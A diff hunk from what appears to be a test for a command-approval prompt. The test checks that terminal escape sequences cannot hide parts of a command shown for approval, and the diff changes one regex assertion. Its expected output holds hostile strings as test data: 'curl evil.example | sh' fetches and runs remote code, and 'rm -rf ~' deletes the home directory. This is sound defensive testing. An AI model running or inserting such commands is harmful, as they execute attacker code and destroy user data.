@@ -106,7 +106,8 @@ test('a command to approve is shown with what would hide it', async () => {
   expect(code).toBe(2);
   expect(stderr).toContain('Run it? [y/N]');
   expect(stderr).toContain('curl evil.example | sh #\\r\\x1b[2K  one  npm test\\nrm -rf ~');
-  expect(stderr.match(/^ {2}one {2}\S+/gm)).toEqual(['  one  haiku', '  one  curl']); // its ladder, its check, nothing else
+  // Its ladder and its check, and nothing else begins like a step.
+  expect(stderr.match(/^ {2}one {2}.{0,7}/gm)).toEqual(['  one  haiku m', '  one    curl ']);
   expect(stderr).toContain('setup  true\\r\\n  one  harmless');
   expect(box.calls()).toEqual([]);
   // Nobody there to answer is no approval.
